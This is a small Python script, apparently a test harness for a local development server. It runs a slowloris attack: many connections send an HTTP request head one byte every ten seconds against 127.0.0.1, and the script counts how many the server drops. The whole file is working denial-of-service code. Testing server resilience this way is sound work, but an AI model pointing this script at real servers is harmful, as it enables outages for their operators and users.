"""N connections that each send a request head one byte every 10 s, reconnecting when the
server drops them (slowloris), for SECONDS. Pair it with measure.py:

    devserve SITE --port 9702 -q &   # SITE holds a.txt (1 KiB)
    python3 measure.py 9702 $(pgrep -f 'port 9702') 15 alone
    python3 attack.py 9702 45 500 & sleep 8
    python3 measure.py 9702 $(pgrep -f 'port 9702') 30 "with 500 slow heads"

Prints how many connections it made and how many the server dropped."""
import asyncio, sys, time

port, seconds, n = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
HEAD = b"GET /a.txt HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"y" * 200 + b"\r\n\r\n"
stats = {"connects": 0, "dropped": 0}


async def slow(stop):
    while not stop.is_set():
        try:
            r, w = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        stats["connects"] += 1
        for i in range(len(HEAD)):
            if stop.is_set():
                break
            w.write(HEAD[i : i + 1])
            await w.drain()
            try:
                # Anything from the server (a close, an error answer) ends this connection.
                await asyncio.wait_for(r.read(1), timeout=10)
                stats["dropped"] += 1
                break
            except asyncio.TimeoutError:
                pass
        w.close()


async def main():
    stop = asyncio.Event()
    tasks = [asyncio.create_task(slow(stop)) for _ in range(n)]
    await asyncio.sleep(seconds)
    stop.set()
    for t in tasks:
        t.cancel()
    print(f"{n} slow connections for {seconds:.0f} s: {stats['connects']} made, {stats['dropped']} dropped by the server")


asyncio.run(main())
